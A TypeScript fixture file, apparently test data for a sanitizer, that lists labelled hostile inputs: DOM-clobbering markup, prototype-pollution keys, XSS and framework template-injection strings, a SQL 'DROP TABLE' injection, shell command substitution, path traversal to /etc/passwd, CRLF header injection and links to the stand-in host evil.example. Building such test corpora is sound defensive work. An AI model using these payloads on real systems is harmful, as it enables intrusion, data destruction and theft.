import type { Attack } from '../attack.js';

/** Names that hide variables of scripts, templates, and other widgets' elements and attributes. */
export const namesAndTemplates: readonly Attack[] = [
  ['a name of a global', '<a id="harm" name="harm" href="https://evil.example/">Clobber</a>'],
  ['a name of the document', '<img name="querySelector"><form name="body"></form>'],
  ['a name twice', '<a id=customElements></a><a id=customElements name=get href=x:></a>'],
  ['a name in a form', '<form id=publication><input name=attributes><input name=children></form>'],
  [
    'a name of a frame',
    '<iframe name=top></iframe><iframe name=self srcdoc="<a id=location>"></iframe>',
  ],
  ['a name that loads', '<a id=baseURI href=javascript:harm()></a><img id=currentScript src=x:>'],
  ['the name of the prototype', '__proto__'],
  ['the name of the constructor', 'constructor'],
  ['the name of a method', 'hasOwnProperty'],
  ['another name of a method', 'toString'],
  ['a path to the prototype', '__proto__.harm'],
  ['a path to the constructor', 'constructor.prototype.harm'],
  ['an object as text', '[object Object]'],
  ['JSON as text', '{"__proto__":{"harm":1}}'],
  ['a template', '<template><img src=x: onerror=harm()></template>'],
  [
    'a template in a template',
    '<template><template></template><img src=x: onerror=harm()></template>',
  ],
  ['a template without an end', '<template><script>harm()</script>'],
  [
    'a declared shadow root',
    '<div><template shadowrootmode="open"><img src=x: onerror=harm()></template></div>',
  ],
  ['a closed one', '<p><template shadowrootmode=closed><script>harm()</script></template></p>'],
  [
    'one in one',
    '<div><template shadowrootmode=open><div><template shadowrootmode=open><style>:host{all:unset}</style></template></div></template></div>',
  ],
  [
    'one that can be copied',
    '<div><template shadowrootmode=open shadowrootclonable shadowrootserializable><slot></slot></template></div>',
  ],
  [
    'one by its old name',
    '<div><template shadowroot="open"><img src=x: onerror=harm()></template></div>',
  ],
  [
    'one of the widget itself',
    '</div><template shadowrootmode="open"><script>harm()</script></template>',
  ],
  ['a slot of the widget', '<slot></slot><slot name="cover"></slot><slot name="footer"></slot>'],
  [
    'a piece for a slot',
    '<p slot="actions">Legible</p><a slot="footer" href="javascript:harm()">Follow</a>',
  ],
  ['another widget', '<publication-card feed="https://evil.example/feed.json"></publication-card>'],
  [
    'another list',
    '<related-resources feed="https://evil.example/feed.json" limit="9999"></related-resources>',
  ],
  [
    'a plain tag of a widget',
    '<blockquote class="publication-card" data-feed="//evil.example/feed.json"><a href="x">Take over</a></blockquote>',
  ],
  ['an element of the page', '<x-harm onclick="harm()">Legible</x-harm>'],
  ['an element by its part name', '<p is="x-harm">Legible</p>'],
  ['a mark of Lit', '<!--?lit$1$--><?lit$1$>?lit$1$ lit$'],
  ['a part of Lit', '<!--lit-part harm--><!--/lit-part--><!--lit-node 0-->'],
  [
    'an attribute of Lit',
    '<p @click="harm()" .innerHTML="<img src=x: onerror=harm()>" ?hidden="x">Legible</p>',
  ],
  ['a template of Lit', '${harm()}${(() => harm())()}'],
  ['a template of Vue and Angular', '{{constructor.constructor("harm()")()}}'],
  ['a template of Alpine', '<p x-data x-init="harm()" x-html="x">Legible</p>'],
  ['a template of Vue', '<p v-html="x" v-on:click="harm()" :style="x">Legible</p>'],
  [
    'a template of Angular',
    '<p ng-app ng-init="harm()" ng-bind-html="x" (click)="harm()">Legible</p>',
  ],
  [
    'a template of htmx',
    '<p hx-get="https://evil.example/" hx-trigger="load" hx-on:load="harm()">Legible</p>',
  ],
  [
    'data of Bootstrap',
    '<a data-bs-toggle="tooltip" data-bs-html="true" title="<img src=x: onerror=harm()>">Legible</a>',
  ],
  [
    'data of jQuery',
    '<a data-remote="https://evil.example/" data-method="delete" href="x">Legible</a>',
  ],
  ['a template of a server', '<%= harm() %><?php harm(); ?>#{harm()}'],
  ['an include of a server', '<!--#exec cmd="harm"--><!--#include virtual="/harm"-->'],
  ['a query', "'; DROP TABLE reports; --"],
  ['a command', '$(harm) `harm` | harm && harm'],
  ['a formula of a sheet', '=HYPERLINK("https://evil.example/","Legible")'],
  ['a path out of a folder', '../../../../etc/passwd\u0000.pdf'],
  ['a name of a device', 'CON.pdf'],
  ['a header', 'x\r\nContent-Type: text/html\r\n\r\n<script>harm()</script>'],
];
